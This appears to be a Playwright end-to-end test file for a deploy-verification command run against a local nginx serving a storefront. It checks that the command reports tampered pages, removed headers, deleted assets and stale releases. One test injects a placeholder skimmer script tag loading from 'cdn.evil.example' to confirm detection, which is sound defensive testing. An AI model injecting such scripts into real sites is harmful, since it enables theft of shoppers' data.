// `gen verify` against the real nginx of `npm run test:nginx` (e2e/nginx-setup.ts): the deploy as
// built passes, checked by the `gen` binary as an operator runs it, trusting the test's CA through
// NODE_EXTRA_CA_CERTS (and trusting nothing without it); then, one at a time and put back after, a
// page edited by one byte, a script added to a page, a header removed from the nginx configuration,
// an asset deleted and an older release's page are each named with the right message.
import { execFile, execFileSync } from "node:child_process";
import { cpSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { Agent } from "node:https";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { expect, test } from "@playwright/test";
import { compile } from "../generator/compile.ts";
import { pageReferences } from "../generator/emit/page-references.ts";
import type { BundleInfo } from "../generator/model.ts";
import type { Difference } from "../generator/verify/check.ts";
import { clientFor } from "../generator/verify/fetch.ts";
import { runVerify } from "../generator/verify/run.ts";
import { DEMO_CONFIG, ROOT } from "./fixture.ts";
import { NGINX } from "./nginx-setup.ts";

const env = (name: string) => {
  const value = process.env[name];
  if (!value) throw new Error(`${name} is not set: run this through npm run test:nginx`);
  return value;
};
const port = env("SF_NGINX_PORT");
const dist = env("SF_NGINX_DIST");

interface Run {
  code: number;
  differences: Difference[];
  stderr: string;
}

const target = `https://*:${port}`;
const args = [target, "--connect", `127.0.0.1:${port}`, "--dist", dist, "--format", "json"];

/** The `gen` binary, as an operator runs it: `gen verify 'https://*:<port>' --connect 127.0.0.1:<port>`. */
function verifyByBinary(extraEnv: Record<string, string>): Promise<Run> {
  const { NODE_EXTRA_CA_CERTS: _own, ...inherited } = process.env;
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [join(ROOT, "cli", "gen.js"), "verify", ...args],
      { cwd: ROOT, env: { ...inherited, ...extraEnv }, maxBuffer: 64 * 1024 * 1024 },
      (error, stdout, stderr) => {
        const code = error ? Number(error.code ?? 1) : 0;
        resolve({ code, differences: stdout ? (JSON.parse(stdout) as { differences: Difference[] }).differences : [], stderr });
      },
    );
  });
}

/**
 * The same check in this process, trusting the test's CA through an agent of its own (Node reads
 * NODE_EXTRA_CA_CERTS only when it starts): the binary's trust is the first test's, each change's
 * check costs no start of a process.
 */
async function verify(): Promise<Run> {
  const agent = new Agent({ ca: readFileSync(env("SF_NGINX_CA")) });
  const out: string[] = [];
  const err: string[] = [];
  const code = await runVerify(
    target,
    { dist, connect: `127.0.0.1:${port}`, format: "json" },
    { out: (s) => out.push(s), err: (s) => err.push(s) },
    {
      client: (t) => clientFor(t, 15_000, agent),
      wait: async () => undefined,
    },
  );
  agent.destroy();
  return { code, differences: (JSON.parse(out.join("")) as { differences: Difference[] }).differences, stderr: err.join("") };
}

/** Changes a file of the deployed copy for the length of `check`, then puts it back. */
async function withFile(file: string, change: (text: string) => string, check: () => Promise<void>): Promise<void> {
  const original = readFileSync(file);
  writeFileSync(file, change(original.toString("utf8")));
  try {
    await check();
  } finally {
    writeFileSync(file, original);
  }
}

const lines = (found: Difference[]) => found.map((d) => `${d.host}${d.path} ${d.kind}: ${d.message}`);

test.describe.configure({ mode: "serial" });

test("the deploy as built passes gen verify, trusting the test's CA; without it, nothing is trusted blindly", async () => {
  const passed = await verifyByBinary({ NODE_EXTRA_CA_CERTS: env("SF_NGINX_CA") });
  expect(passed.stderr).toBe("");
  expect(lines(passed.differences)).toEqual([]);
  expect(passed.code).toBe(0);
  const untrusted = await verifyByBinary({});
  expect(untrusted.code).toBe(1);
  expect(untrusted.differences.length).toBeGreaterThan(0);
  expect(untrusted.differences.every((d) => d.kind === "unreachable" && /certificate/i.test(d.message))).toBe(true);
});

test("a page edited by one byte is named on every host that serves it", async () => {
  await withFile(
    join(dist, "brands", "aurora", "entry", "my.html"),
    (html) => html.replace("<noscript>", "<noscripT>"),
    async () => {
      const run = await verify();
      expect(run.code).toBe(1);
      expect(new Set(run.differences.map((d) => `${d.path} ${d.kind}`))).toEqual(new Set(["/my page-changed"]));
      expect(run.differences.map((d) => d.host).sort()).toEqual(["pay-demo.aurora.example", "pay.aurora.example", "shop.aurora.example"]);
      expect(run.differences[0]?.message).toMatch(/^its bytes are not the release's entry\/my\.html/);
    },
  );
});

test("a script added to a page is named", async () => {
  await withFile(
    join(dist, "brands", "sakura", "index.html"),
    (html) => html.replace("</head>", '<script src="https://cdn.evil.example/skim.js"></script></head>'),
    async () => {
      const run = await verify();
      expect(run.code).toBe(1);
      expect(new Set(lines(run.differences).map((l) => l.replace(/^\S+?\//, "/")))).toEqual(
        new Set(["/selectGoods script-added: loads https://cdn.evil.example/skim.js (script), which the release does not list"]),
      );
    },
  );
});

/** Reloads nginx with its configuration as it now is, and waits until /sw.js answers as `ready` says. */
async function reload(ready: (headers: Headers | Record<string, string>) => boolean): Promise<void> {
  execFileSync(NGINX, ["-p", join(env("SF_NGINX_PID"), ".."), "-c", env("SF_NGINX_CONF"), "-s", "reload"], { stdio: "pipe" });
  const { request } = await import("node:https");
  const headers = () =>
    new Promise<Record<string, string>>((resolve, reject) =>
      request(
        {
          host: "127.0.0.1",
          port,
          path: "/sw.js",
          servername: "storefront.test",
          rejectUnauthorized: false,
          headers: { host: "pay.aurora.example" },
        },
        (res) => {
          res.resume();
          resolve(res.headers as Record<string, string>);
        },
      )
        .on("error", reject)
        .end(),
    );
  await expect.poll(async () => ready(await headers()), { timeout: 10_000 }).toBe(true);
}

test("a header removed from the nginx configuration is named", async () => {
  const conf = env("SF_NGINX_CONF");
  const original = readFileSync(conf, "utf8");
  const edited = original.replace(/(location = \/sw\.js \{\n\s+)add_header x-content-type-options "nosniff" always;\n\s+/g, "$1");
  expect(edited).not.toBe(original);
  writeFileSync(conf, edited);
  try {
    await reload((h) => !("x-content-type-options" in h));
    const run = await verify();
    expect(run.code).toBe(1);
    expect(new Set(run.differences.map((d) => `${d.path} ${d.kind}: ${d.message}`))).toEqual(
      new Set(["/sw.js header-missing: no x-content-type-options header (the release's: nosniff)"]),
    );
  } finally {
    writeFileSync(conf, original);
    await reload((h) => "x-content-type-options" in h);
  }
});

test("an asset deleted is named, with its precompressed copies", async () => {
  const assets = join(dist, "app", "assets");
  const release = JSON.parse(readFileSync(join(dist, "release.json"), "utf8")) as { assets: { path: string; why: string }[] };
  const lazy = release.assets.find((a) => a.why.startsWith("loaded by the runtime when it needs features/loyalty/MyPage"));
  if (!lazy) throw new Error("the release lists no lazy MyPage chunk");
  const name = lazy.path.slice("/assets/".length);
  const copies = [name, `${name}.gz`, `${name}.br`];
  for (const file of copies) renameSync(join(assets, file), join(assets, `${file}.away`));
  try {
    const run = await verify();
    expect(run.code).toBe(1);
    expect(new Set(lines(run.differences).map((l) => l.replace(/^\S+?\//, "/")))).toEqual(
      new Set([`${lazy.path} asset-missing: answered 404, not the release's file`]),
    );
  } finally {
    for (const file of copies) renameSync(join(assets, `${file}.away`), join(assets, file));
  }
});

/** What the runtime's bundle was, as a built page names it: its scripts, its inline stylesheet and first script. */
function bundleOf(html: string, brandTokens: string): BundleInfo {
  const scripts = pageReferences(html).files.map((f) => f.url);
  const entry = scripts.at(-1) ?? "";
  const css = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? "";
  return {
    entry,
    preloads: [],
    css: css.slice(0, css.lastIndexOf(`\n${brandTokens}`)),
    locales: { en: scripts[1] ?? "" },
    early: /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "",
  };
}

test("an older release's page is named as another build's, by the brand module it loads", async () => {
  const page = join(dist, "brands", "aurora", "index.html");
  const current = readFileSync(page, "utf8");
  // The release before this one: the same runtime, the brand's colour as it was then.
  const folder = mkdtempSync(join(tmpdir(), "sf-older-release-"));
  cpSync(join(DEMO_CONFIG, ".."), folder, { recursive: true });
  const older = join(folder, basename(DEMO_CONFIG));
  writeFileSync(older, readFileSync(DEMO_CONFIG, "utf8").replace('themeColor: "#5b3df5"', 'themeColor: "#5b3df4"'));
  const tokens = /html\[data-brand="aurora"\]\{[^}]*\}/.exec(current)?.[0] ?? "";
  const built = await compile(older, { site: { bundle: async () => bundleOf(current, tokens), iconCache: false } });
  const olderPage = String(built.site.find((f) => f.path === "brands/aurora/index.html")?.contents);
  const olderModule = built.site.find((f) => /^app\/assets\/brand-aurora\./.test(f.path));
  if (!olderModule) throw new Error("the older release has no aurora module");
  // Its assets stay deployed beside this release's (docs/deploy.md, "Ship a release without breaking open pages").
  writeFileSync(join(dist, olderModule.path), olderModule.contents);
  await withFile(
    page,
    () => olderPage,
    async () => {
      const run = await verify();
      expect(run.code).toBe(1);
      const stale = run.differences.filter((d) => d.path === "/selectGoods");
      expect(stale.map((d) => d.kind)).toEqual(["page-stale", "page-stale", "page-stale"]);
      const was = pageReferences(current).files[0]?.url;
      expect(stale[0]?.message).toBe(
        `another build's page (an older release?): it loads /${olderModule.path.slice("app/".length)} where the release has ${was}`,
      );
      // Nothing else differs: the older page's headers are the ones nginx was configured with, and they match.
      expect(new Set(run.differences.map((d) => d.kind))).toEqual(new Set(["page-stale"]));
    },
  );
});
